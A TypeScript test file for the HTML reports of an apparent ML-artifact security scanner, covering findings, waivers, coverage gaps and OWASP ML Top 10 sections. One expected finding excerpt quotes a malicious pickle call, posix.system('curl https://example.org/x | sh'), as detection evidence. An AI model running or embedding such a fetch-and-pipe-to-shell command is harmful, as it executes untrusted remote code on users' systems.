import { describe, expect, it } from 'vitest';
import { type Judged, renderHtml } from '../../src/report/index.ts';
import { all, attribute, parseHtml, textOf } from '../support/parsed-html.ts';
import { cleanReview, convertedReview, manyFindings, mixedReview, NOW } from './html-sample.ts';
import { assessment, CALL_RULE, CONTEXT, file, finding, judged, signature, UNLISTED_RULE } from './sample.ts';

const context = { ...CONTEXT, coverage: true };

function reviewOf(what: Judged) {
  return parseHtml(renderHtml(what, context, { now: NOW }));
}

function section(parsed: ReturnType<typeof parseHtml>, id: string): string {
  const found = all(parsed, 'section').find((element) => attribute(element, 'id') === id);
  return found === undefined ? '' : textOf(found).replace(/\s+/g, ' ');
}

describe('the HTML review', () => {
  it('equals the golden file', async () => {
    await expect(mixedReview()).toMatchFileSnapshot('../golden/review.html');
    await expect(cleanReview()).toMatchFileSnapshot('../golden/review-clean.html');
    await expect(convertedReview()).toMatchFileSnapshot('../golden/review-converted.html');
  });

  it('says what a conversion is evidence for, and shows its figures against their tolerance', () => {
    const parsed = parseHtml(convertedReview());
    expect(parsed.errors).toEqual([]);
    const text = section(parsed, 'conversion');
    expect(text).toContain('evidence for ML06 (supply chain)');
    expect(text).toContain('evidence for ML10 (poisoning)');
    expect(text).toMatch(/label labelsHolds24100% equal/);
    expect(text).toMatch(/probabilitiesHolds242\.9e-81e-5/);
    expect(all(parsed, 'svg').filter((one) => attribute(one, 'class') === 'difference')).toHaveLength(3);
    expect(section(parseHtml(cleanReview()), 'conversion')).toBe('');
  });

  it('is well formed, and every link has a target in it', () => {
    for (const html of [mixedReview(), cleanReview()]) {
      const parsed = parseHtml(html);
      expect(parsed.errors).toEqual([]);
      const ids = parsed.elements.flatMap((element) => attribute(element, 'id') ?? []);
      expect(new Set(ids).size).toBe(ids.length);
      for (const link of all(parsed, 'a')) expect(ids).toContain(attribute(link, 'href')?.slice(1));
    }
  });

  it('has headings that never skip a level', () => {
    const levels = parseHtml(mixedReview()).elements.flatMap(({ tagName }) =>
      /^h[1-6]$/.test(tagName) ? [Number(tagName[1])] : [],
    );
    expect(levels[0]).toBe(1);
    for (const [i, level] of levels.entries()) expect(level).toBeLessThanOrEqual((levels[i - 1] ?? 0) + 1);
  });

  it('states first how many of the ten risks were assessed', () => {
    expect(section(parseHtml(mixedReview()), 'owasp')).toMatch(
      /^ 2 OWASP Machine Learning Security Top 10 Assessed \d+\/10, direct \d+\/10\. /,
    );
  });

  it('shows the excerpt at a finding, and its waiver', () => {
    const text = section(parseHtml(mixedReview()), 'findings');
    expect(text).toContain("▸42 REDUCE # posix.system('curl https://example.org/x | sh')");
    expect(text).toContain('▸00000000 80 04 95 2a 00 00 00 63 ···*···c');
    expect(text).toContain('No excerpt: the finding names a line, not a byte.');
    expect(text).toContain('Waived by ada@example.org until 2026-06-30: our own class, reviewed');
  });

  it('states what it does not cover', () => {
    const text = section(parseHtml(mixedReview()), 'unseen');
    expect(text).toContain('Unknown extra/cut.pkl the pickle ends before its STOP');
    expect(text).toContain('extra/cut.pkl: 100 bytes of 1000 bytes, the first at byte 900');
    expect(text).toContain('model.safetensors: as claimed by the source');
    expect(text).toContain('onnx/model.onnx: none');
    expect(text).toContain('Files without a signature extra/tokens.pkl');
    expect(text).toContain('Not assessed format.onnx.scan: no scanner judges ONNX yet');
  });

  it('states "incomplete", "unsigned" and "no digest" only when they apply', () => {
    const open = assessment({ status: 'incomplete', artifact: { ref: './m', pinned: './m', digest: null } });
    const parsed = reviewOf({ ...judged(), assessment: open });
    expect(parsed.text).toContain('The review is incomplete: part of the artifact could not be read.');
    expect(parsed.text).toContain('not pinned: the source has no versions');
    expect(parsed.text).toContain('none: some files have no digest');
    expect(section(parsed, 'provenance')).toContain('nothing proves who made this artifact');
    const complete = reviewOf(judged({ signatures: [signature()] }));
    expect(complete.text).not.toContain('The review is incomplete');
    expect(section(complete, 'provenance')).not.toContain('nothing proves');
  });

  it('offers no waiver for a malicious file', () => {
    const bad = reviewOf(judged({ files: [file({ path: 'a.pkl', verdict: 'malicious' })] }));
    expect(section(bad, 'summary')).toContain('A malicious file cannot be waived');
    const odd = reviewOf(judged({ files: [file({ path: 'a.pkl', verdict: 'suspicious' })] }));
    expect(section(odd, 'summary')).toContain('or a waiver allows this one');
  });

  it('draws a single unread byte', () => {
    const size = 1_000_000_000;
    const coverage = {
      ranges: [{ start: 0, end: size - 1, kind: 'opaque' as const }],
      gaps: [{ start: size - 1, end: size }],
    };
    const parsed = reviewOf(judged({ files: [file({ path: 'w.bin', size, verdict: 'unknown', coverage })] }));
    const bars = all(parsed, 'rect').filter((rect) => attribute(rect, 'class') === 'unread');
    // One in the key, one in the bar.
    expect(bars.map((rect) => attribute(rect, 'x'))).toEqual(['0', '199']);
  });

  it('sets the page size to the given paper', () => {
    expect(mixedReview({ paper: 'letter' })).toContain('@page { size: letter; }');
    expect(mixedReview()).not.toMatch(/@page \{ size/);
  });
});

describe('many findings in a review', () => {
  const places = (parsed: ReturnType<typeof parseHtml>) =>
    all(parsed, 'li').filter((li) => attribute(li, 'id')?.startsWith('f-'));

  it('are shown in full up to 500, and the rest in a line each, with a note', () => {
    const parsed = reviewOf(manyFindings(1_234));
    expect(places(parsed)).toHaveLength(500);
    const text = section(parsed, 'findings');
    expect(text).toContain('1,234 findings of 3 rules, worst first. 500 findings are shown with evidence');
    expect(text).toContain('734 more findings in one line each');
    expect(text).toMatch(/3\.411weights\/part-\d+\.pkl, byte \d+calls posix\.system/);
    expect(section(reviewOf(manyFindings(500)), 'findings')).not.toContain('in a line each');
  });

  it('are only counted beyond ten thousand lines', () => {
    expect(section(reviewOf(manyFindings(11_000)), 'findings')).toContain('500 more findings only counted');
  });

  it('of one rule leave room for findings of other rules', () => {
    const findings = [
      ...Array.from({ length: 900 }, (_, i) => finding(CALL_RULE, { file: 'a.pkl', offset: i, evidence: String(i) })),
      ...Array.from({ length: 30 }, (_, i) =>
        finding(UNLISTED_RULE, { file: 'a.pkl', offset: i, evidence: String(i) }),
      ),
    ];
    const ids = places(reviewOf(judged({ findings }))).map((li) => attribute(li, 'id') ?? '');
    expect(ids.filter((id) => id.startsWith('f-1.'))).toHaveLength(480);
    expect(ids.filter((id) => id.startsWith('f-2.'))).toHaveLength(20);
  });

  it('give a document of bounded size', () => {
    const many = manyFindings(10_000);
    const html = renderHtml(many, context, { now: NOW });
    expect(html.length).toBeLessThan(8_000_000);
  });
});
